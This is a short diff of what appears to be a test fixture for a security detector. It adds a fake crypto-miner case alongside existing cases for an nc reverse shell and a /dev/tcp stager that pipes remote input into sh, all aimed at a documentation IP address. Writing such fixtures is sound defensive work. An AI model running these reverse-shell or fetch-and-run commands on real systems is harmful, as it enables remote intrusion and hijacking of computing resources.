@@ -153,6 +153,10 @@ exec perl -e '${debugging(40127)}' "$pid"`,
     script: 'exec nc 198.51.100.66 4444 -e sleep 40121',
     runs: ['sleep 40121'],
   },
+  miner: {
+    script: `exec perl -e 'sleep 40133' -- -o stratum+tcp://198.51.100.66:3333`,
+    runs: [],
+  },
   stager: {
     script: `exec bash -c 'exec 3<>/dev/tcp/198.51.100.66/4444; cat <&3 | sh'`,
     spec: { serviceAccountName: 'admin' },
